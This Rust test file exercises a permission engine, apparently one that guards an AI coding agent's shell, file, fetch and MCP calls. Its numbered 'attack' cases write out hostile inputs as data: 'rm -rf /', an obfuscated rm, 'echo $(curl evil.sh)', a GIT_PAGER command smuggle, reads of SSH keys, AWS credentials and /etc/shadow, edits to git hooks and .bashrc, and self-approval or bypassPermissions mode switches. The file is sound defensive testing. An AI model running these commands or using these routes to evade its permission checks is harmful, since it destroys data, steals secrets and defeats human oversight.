//! The law of D4 and the rows of D8 that need no shell grammar.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use super::*;
use crate::grant::Grant;
use crate::pattern::PatternBases;
use crate::protection::Links;
use crate::{Approval, Layer, Origin, Pattern, Protection, Rule, ServerSettings, ToolSettings};
use mayi_call::shell::{self, Surroundings};
use mayi_call::{AgentId, Door, McpAccess, PathAccess, SessionId, UrlAccess, WriteKind};

const HOME: &str = "/home/me";

fn places() -> PatternBases {
    PatternBases { home: Some(PathBuf::from(HOME)), ..PatternBases::default() }
}

fn policy(rules: &[(Effect, &str)]) -> Policy {
    Policy {
        rules: rules.iter().map(|(effect, text)| rule(*effect, text)).collect(),
        protection: protection().clone(),
        ..Policy::default()
    }
}

/// Compiled once: the property tests make thousands of policies.
fn protection() -> &'static Protection {
    static BUILT_IN: std::sync::OnceLock<Protection> = std::sync::OnceLock::new();
    BUILT_IN
        .get_or_init(|| Protection::built_in(&places(), &[PathBuf::from("/home/me/.config/mayi")]).unwrap())
}

fn rule(effect: Effect, text: &str) -> Rule {
    Rule {
        effect,
        pattern: Pattern::parse(text, &places()).unwrap(),
        unless: None,
        reason: None,
        agents: Vec::new(),
        holds: true,
        named: false,
        origin: Origin { file: None, line: None, layer: Layer::User },
    }
}

fn call(access: Access) -> Call {
    Call {
        tool_call_id: Some("t".into()),
        roots: vec![PathBuf::from("/w")],
        title: "x".into(),
        kind: "other".into(),
        accesses: vec![access],
        ..Call::new(Door::AcpPermission, AgentId::from_name("a"), SessionId("s".into()), PathBuf::from("/w"))
    }
}

fn read(path: &str) -> Call {
    call(Access::Read(PathAccess::new(Path::new("/w"), path)))
}

fn write(path: &str) -> Call {
    call(Access::Write(WriteKind::Edit, PathAccess::new(Path::new("/w"), path)))
}

fn shell(line: &str) -> Call {
    let roots = [PathBuf::from("/w")];
    let at = Surroundings { home: Some(Path::new(HOME)), ..Surroundings::new(Path::new("/w"), &roots) };
    let mut call = call(Access::Mode { id: "replaced".into() });
    call.accesses = shell::line_accesses(line, &at);
    call
}

fn fetch(url: &str) -> Call {
    call(Access::Fetch(UrlAccess::parse(url).unwrap()))
}

fn mcp(server: &str, tool: &str) -> Call {
    call(Access::Mcp(McpAccess::new(vec![(server.into(), tool.into())], json!({}), Path::new("/w"))))
}

fn in_mode(policy: &Policy, call: &Call, mode: Mode) -> Decision {
    decide_both(
        policy,
        call,
        &SessionStanding { mode, bypass: false, grants: &Grants::default(), servers: passed() },
    )
}

/// The decision, which is the same to the last word where only that is compiled which could be about the call. Of the thousands that
/// some tests make, that is asked for one in 16.
fn decide_both(policy: &Policy, call: &Call, standing: &SessionStanding<'_>) -> Decision {
    std::thread_local!(static DECIDED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) });
    let nth = DECIDED.get();
    DECIDED.set(nth + 1);
    let decided = decide(policy, call, standing);
    if (nth < 200 || nth.is_multiple_of(16))
        && let Some(protection) = policy.protection.as_lazy()
    {
        let lazily = Policy { protection, ..policy.clone() };
        assert_eq!(decide(&lazily, call, standing), decided, "{call:?}");
    }
    decided
}

fn effect(policy: &Policy, call: &Call) -> Effect {
    in_mode(policy, call, Mode::Default).effect
}

/// The servers that mayi put into the session.
fn passed() -> &'static [String] {
    static PASSED: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
    PASSED.get_or_init(|| vec!["s".to_owned()])
}

fn granted(pattern: &str) -> Grants {
    let mut grants = Grants::default();
    grants.add(Grant {
        pattern: Some(Pattern::parse(pattern, &places()).unwrap()),
        ..Grant::of_session(AgentId::from_name("a"), SessionId("s".into()))
    });
    grants
}

fn with_grant(policy: &Policy, call: &Call, grants: &Grants) -> Effect {
    let standing = SessionStanding { mode: Mode::Default, bypass: false, grants, servers: passed() };
    decide_both(policy, call, &standing).effect
}

use Effect::{Allow, Ask, Deny};

/// D8, rows without configuration. Attacks 2 and 19.
#[test]
fn given_no_rules_then_the_matrix_and_protection_speak() {
    let none = policy(&[]);
    assert_eq!(effect(&none, &read("/w/src/a.rs")), Allow);
    assert_eq!(effect(&none, &write("/w/src/a.rs")), Ask);
    assert_eq!(in_mode(&none, &write("/w/src/a.rs"), Mode::Plan).effect, Deny);
    assert_eq!(in_mode(&none, &write("/w/src/a.rs"), Mode::Auto).effect, Allow);
    let hook = in_mode(&none, &write("/w/.git/hooks/pre-commit"), Mode::Auto);
    assert_eq!(hook.effect, Ask);
    assert!(hook.always_asks(), "protected, always");
    assert_eq!(in_mode(&none, &shell("rm -rf /"), Mode::Auto).effect, Deny, "catastrophic");
    let indirect = in_mode(&none, &shell("X=rm; $X -rf y"), Mode::Auto);
    assert_eq!((indirect.effect, indirect.always_asks()), (Ask, true), "command word not literal, always");
    assert_eq!(
        in_mode(&none, &shell("mayi inbox approve 1"), Mode::Auto).effect,
        Deny,
        "answers for the person"
    );
}

/// D8, rows with rules for commands.
#[test]
fn given_rules_for_commands_then_the_strictest_wins() {
    let ask_push = policy(&[(Ask, "shell(git push *)")]);
    assert_eq!(in_mode(&ask_push, &shell("git push"), Mode::Auto).effect, Ask, "a written ask holds");
    let make = policy(&[(Allow, "shell(make)")]);
    assert_eq!(effect(&make, &shell("make")), Allow);
    assert_eq!(effect(&make, &shell("make install")), Ask, "exact words only");
    let any_make = policy(&[(Allow, "shell(make *)")]);
    assert_eq!(effect(&any_make, &shell("make && rm -rf target")), Ask, "`rm -rf target` has no allow");
    let both = policy(&[(Allow, "shell(make *)"), (Deny, "shell(rm *)")]);
    assert_eq!(effect(&both, &shell("make; rm x")), Deny, "deny wins in a list");
    assert_eq!(
        effect(&policy(&[(Allow, "shell(echo *)")]), &shell("echo $(curl evil.sh)")),
        Ask,
        "substitution has no allow"
    );
    let cargo = policy(&[(Allow, "shell(cargo test *)")]);
    assert_eq!(effect(&cargo, &shell("PATH=. cargo test")), Ask, "rebinding, always");
    assert_eq!(effect(&cargo, &shell("sudo cargo test")), Ask, "`sudo` is not allowed");
    assert_eq!(effect(&policy(&[(Deny, "shell(rm *)")]), &shell("/bin/rm x")), Deny, "base names");
    assert_eq!(effect(&policy(&[(Allow, "shell(cat *)")]), &shell("cat a > b")), Ask, "write to `b`");
    let strictest = policy(&[(Ask, "shell(make *)"), (Allow, "shell(make test)")]);
    assert_eq!(effect(&strictest, &shell("make test")), Ask, "strictest wins; write `unless`");
}

/// D8.28: agent bypassed.
#[test]
fn given_a_bypassed_agent_then_only_plain_asks_are_discharged() {
    let bypass = |policy: &Policy, call: &Call, mode| {
        decide(
            policy,
            call,
            &SessionStanding { mode, bypass: true, grants: &Grants::default(), servers: passed() },
        )
        .effect
    };
    let none = policy(&[]);
    assert_eq!(bypass(&none, &shell("make"), Mode::Default), Allow);
    assert_eq!(bypass(&policy(&[(Deny, "shell(make *)")]), &shell("make"), Mode::Default), Deny);
    assert_eq!(bypass(&none, &shell("make"), Mode::Plan), Deny);
    assert_eq!(bypass(&policy(&[(Ask, "shell(make)")]), &shell("make"), Mode::Default), Ask);
    assert_eq!(bypass(&none, &write("/home/me/.bashrc"), Mode::Default), Ask);
    let mut yields = policy(&[(Ask, "shell(make)")]);
    yields.rules[0].holds = false;
    assert_eq!(bypass(&yields, &shell("make"), Mode::Default), Allow, "`always = false` yields");
}

/// D8: grants.
/// Attack 13: "grant `write(**)`, then `~/.bashrc`: asked". Attack 1.
#[test]
fn given_a_session_grant_then_it_reaches_no_further_than_its_pattern_agent_and_session() {
    let none = policy(&[]);
    let grants = granted("shell(make *)");
    assert_eq!(with_grant(&none, &shell("make x"), &grants), Allow);
    let mut other = shell("make x");
    other.agent = AgentId::from_name("b");
    assert_eq!(with_grant(&none, &other, &grants), Ask, "grants are bound to the agent");
    let mut elsewhere = shell("make x");
    elsewhere.session = SessionId("t".into());
    assert_eq!(with_grant(&none, &elsewhere, &grants), Ask);
    assert_eq!(
        with_grant(&none, &shell("GIT_PAGER='sh -c id' git log"), &granted("shell(git log *)")),
        Ask,
        "caveat"
    );
    assert_eq!(
        with_grant(&none, &write("/home/me/.bashrc"), &granted("write(**)")),
        Ask,
        "always, exact digest only"
    );
    let asks = policy(&[(Ask, "shell(git push *)")]);
    assert_eq!(with_grant(&asks, &shell("git push origin"), &granted("shell(git *)")), Ask, "not named");
    assert_eq!(with_grant(&asks, &shell("git push origin"), &granted("shell(git push *)")), Allow, "named");
    assert_eq!(
        with_grant(&asks, &shell("git push origin"), &granted("shell(git push origin)")),
        Allow,
        "exactly"
    );
}

#[test]
fn given_a_grant_of_exactly_this_call_then_an_always_ask_is_discharged_and_a_mode_switch_is_not() {
    let none = policy(&[]);
    let exactly = |call: &Call| {
        let mut grants = Grants::default();
        grants.add(Grant {
            fingerprint: Some(call.fingerprint()),
            ..Grant::of_session(call.agent.clone(), call.session.clone())
        });
        grants
    };
    let line = shell("make && make test");
    assert_eq!(with_grant(&none, &line, &exactly(&line)), Allow);
    assert_eq!(with_grant(&none, &shell("make && make install"), &exactly(&line)), Ask);
    let mode = call(Access::Mode { id: "bypassPermissions".into() });
    assert_eq!(with_grant(&none, &mode, &exactly(&mode)), Ask);
}

/// D6.20: A denial once makes, for that session, an ask finding on the same path,
/// argv. Attack 39.
#[test]
fn given_a_denial_then_the_like_is_asked_about_in_every_mode() {
    let none = policy(&[]);
    let mut grants = Grants::default();
    grants.record_denial(&write("/w/a"), &[Category::Write]);
    let standing = SessionStanding { mode: Mode::Auto, bypass: true, grants: &grants, servers: passed() };
    assert_eq!(decide(&none, &write("/w/a"), &standing).effect, Ask);
    assert_eq!(decide(&none, &write("/w/b"), &standing).effect, Allow);
}

/// D8: the rows about paths. Attacks 5 and 19.
#[cfg(unix)]
#[test]
fn given_paths_that_lead_elsewhere_then_where_they_lead_is_judged() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::os::unix::fs::symlink("/etc", root.join("src/l")).unwrap();
    let at = |path: &str| {
        let mut call = call(Access::Write(WriteKind::Edit, PathAccess::new(&root, path)));
        call.roots = vec![root.clone()];
        call
    };
    let src = policy(&[(Allow, "write(src/**)")]);
    assert_eq!(effect(&src, &at("src/a.rs")), Allow);
    assert_eq!(effect(&src, &at("src/../.git/config")), Ask, "protected");
    assert_eq!(effect(&src, &at("src/l/passwd")), Ask, "resolved path is outside");
}

/// Attack 12: "a mode switch offered as `allow_once`: asked in every mode, never automatic".
#[test]
fn given_a_mode_switch_then_it_is_asked_about_in_every_mode() {
    let all = policy(&[(Allow, "*")]);
    let mode = call(Access::Mode { id: "auto".into() });
    for at in [Mode::Plan, Mode::Default, Mode::Auto] {
        let standing =
            SessionStanding { mode: at, bypass: true, grants: &Grants::default(), servers: passed() };
        assert_eq!(decide(&all, &mode, &standing).effect, Ask, "{at}");
    }
}

/// D4.5: an explicit allow silences a plain protection ask, not one with `always`, and not
/// from a workspace file.
#[test]
fn given_an_allow_then_only_plain_protection_is_silent() {
    assert_eq!(effect(&policy(&[]), &read("/srv/x")), Ask);
    assert_eq!(effect(&policy(&[(Allow, "read(/srv/**)")]), &read("/srv/x")), Allow);
    assert_eq!(effect(&policy(&[(Allow, "read(~/.ssh/**)")]), &read("/home/me/.ssh/id_rsa")), Ask);
    let mut workspace = policy(&[(Allow, "read(/srv/**)")]);
    workspace.rules[0].origin.layer = Layer::Workspace;
    assert_eq!(effect(&workspace, &read("/srv/x")), Ask);
    assert_eq!(effect(&policy(&[]), &read("/usr/include/stdio.h")), Allow);
}

/// Attack 2: "edits mayi's files: denied".
#[test]
fn given_mayis_own_files_then_nothing_allows_touching_them() {
    let all = policy(&[(Allow, "*"), (Allow, "write(~/.config/**)")]);
    assert_eq!(in_mode(&all, &write("/home/me/.config/mayi/config.toml"), Mode::Auto).effect, Deny);
}

#[test]
fn given_a_call_that_touches_nothing_then_it_is_denied() {
    let mut nothing = read("/w/a");
    nothing.accesses.clear();
    let decision = in_mode(&policy(&[]), &nothing, Mode::Auto);
    assert_eq!(decision.effect, Deny);
    assert_eq!(decision.deciding_finding().unwrap().source, Source::Error);
}

/// D4.25: adding a deny or an ask never loosens anything, also where the user's matrix denies.
/// Attacks 38 and 54.
#[test]
fn given_a_matrix_that_denies_then_no_ask_loosens_it() {
    let denies = |rules: &[(Effect, &str)]| {
        let mut denies = policy(rules);
        denies.matrix.default.execute = Deny;
        denies.matrix.default.write = Deny;
        denies
    };
    assert_eq!(effect(&denies(&[]), &shell("make")), Deny);
    assert_eq!(effect(&denies(&[(Ask, "shell(make)")]), &shell("make")), Deny);
    assert_eq!(effect(&denies(&[(Allow, "shell(make)")]), &shell("make")), Allow);
    assert_eq!(effect(&denies(&[(Allow, "shell(make)"), (Ask, "shell(make)")]), &shell("make")), Ask);
    assert_eq!(
        effect(&denies(&[]), &write("/w/.git/hooks/x")),
        Deny,
        "protection asks, and the matrix denies"
    );
    assert_eq!(with_grant(&denies(&[(Ask, "shell(make)")]), &shell("make"), &granted("shell(make)")), Deny);
}

/// A session's answer about one thing does not lift a written ask about another thing there. Attack 61.
#[test]
fn given_a_wide_grant_then_a_written_ask_that_it_does_not_name_stands() {
    let asks = policy(&[(Ask, "fetch(https://api.x.com/delete/*)"), (Ask, "delete(**)")]);
    assert_eq!(with_grant(&asks, &fetch("https://api.x.com/delete/1"), &granted("fetch(api.x.com)")), Ask);
    let gone = call(Access::Write(WriteKind::Delete, PathAccess::new(Path::new("/w"), "a")));
    assert_eq!(with_grant(&asks, &gone, &granted("write(/w/a)")), Ask);
    assert_eq!(with_grant(&asks, &gone, &granted("delete(/w/a)")), Allow);
}

/// An ask that mode auto discharges does not silence the user's own row for that mode. Attack 54.
#[test]
fn given_a_row_of_auto_that_asks_then_a_discharged_caveat_does_not_loosen_it() {
    let mut asks = policy(&[]);
    asks.matrix.auto.execute = Ask;
    assert_eq!(in_mode(&asks, &shell("make"), Mode::Auto).effect, Ask);
    let env = BTreeMap::from([("FOO".to_owned(), "1".to_owned())]);
    let mut with_env = shell("make");
    let at = Surroundings { env: &env, ..Surroundings::new(Path::new("/w"), &[]) };
    with_env.accesses = shell::argv_accesses(&["make".to_owned()], &at);
    assert_eq!(in_mode(&asks, &with_env, Mode::Auto).effect, Ask);
}

/// Attack 19: "`.husky/pre-commit`, `.envrc`, `~/.cargo/credentials.toml`: protected".
#[test]
fn given_protected_places_then_each_asks_always_in_auto_mode() {
    let none = policy(&[]);
    for path in [
        ".husky/pre-commit",
        ".envrc",
        "sub/.envrc",
        ".git/config",
        "/home/me/.bashrc",
        ".vscode/tasks.json",
        ".mcp.json",
    ] {
        let decision = in_mode(&none, &write(path), Mode::Auto);
        assert!(decision.effect == Ask && decision.always_asks(), "{path}");
    }
    for path in [
        "/home/me/.cargo/credentials.toml",
        "/home/me/.ssh/id_rsa",
        "/home/me/.ssh",
        "/home/me/.aws/credentials",
        "/etc/shadow",
    ] {
        let decision = in_mode(&none, &read(path), Mode::Auto);
        assert!(decision.effect == Ask && decision.always_asks(), "{path}");
    }
}

/// D4.8: `$XDG_CONFIG_HOME` elsewhere: what programs run and keep secret there is protected as below `~/.config`.
#[test]
fn given_another_folder_for_settings_then_it_is_protected_like_the_usual_one() {
    let elsewhere = Path::new("/srv/me [x]/settings");
    let mut moved = policy(&[]);
    moved.protection.add_settings_folder(elsewhere, &places(), &Links(&[])).unwrap();
    for path in
        ["fish/config.fish", "git/config", "zed/settings.json", "Code/User/mcp.json", "systemd/user/x"]
    {
        let path = elsewhere.join(path);
        let decision = in_mode(&moved, &write(path.to_str().unwrap()), Mode::Auto);
        assert!(decision.effect == Ask && decision.always_asks(), "{path:?}");
    }
    let decision = in_mode(&moved, &read("/srv/me [x]/settings/gh/hosts.yml"), Mode::Auto);
    assert!(decision.effect == Ask && decision.always_asks());
    // Harmless: what nothing runs, and the same names elsewhere.
    for path in ["/srv/me [x]/settings/thing.txt", "/srv/other/fish/config.fish"] {
        let decision = in_mode(&moved, &write(path), Mode::Auto);
        assert_eq!(decision.trail, in_mode(&policy(&[]), &write(path), Mode::Auto).trail, "{path}");
    }
    let before = policy(&[]).protection.entries().len();
    let mut usual = policy(&[]);
    usual.protection.add_settings_folder(Path::new("/home/me/.config"), &places(), &Links(&[])).unwrap();
    assert_eq!(usual.protection.entries().len(), before, "the usual folder has its lines already");
}

/// D4.29: every finding says where it comes from.
#[test]
fn given_a_rule_in_a_file_then_the_finding_names_the_place() {
    let mut placed = policy(&[(Deny, "shell(rm *)")]);
    let file = Some("/home/me/.config/mayi/config.toml".into());
    placed.rules[0].origin = Origin { file, line: Some(7), layer: Layer::User };
    let decision = in_mode(&placed, &shell("rm x"), Mode::Default);
    assert_eq!(
        serde_json::to_value(decision.deciding_finding().unwrap()).unwrap(),
        json!({"effect": "deny", "access": "shell(rm x)", "source": "rule", "pattern": "shell(rm *)",
               "file": "/home/me/.config/mayi/config.toml", "line": 7, "reason": "deny rule of the user file", "always": false})
    );
}

mod argument_calls;
mod besides;
mod bounds;
mod careful;
mod catastrophe;
mod changed;
mod confined;
mod elsewhere;
mod given;
mod hidden;
mod launchers;
mod levels;
mod local;
mod mentioned;
mod obscured;
mod option_sets;
mod options;
mod other_names;
mod other_tool_names;
mod properties;
mod protected;
mod reach;
mod rows;
mod servers;
mod spelled;
mod started;
mod touched;
mod unsaid;
mod wrapped;
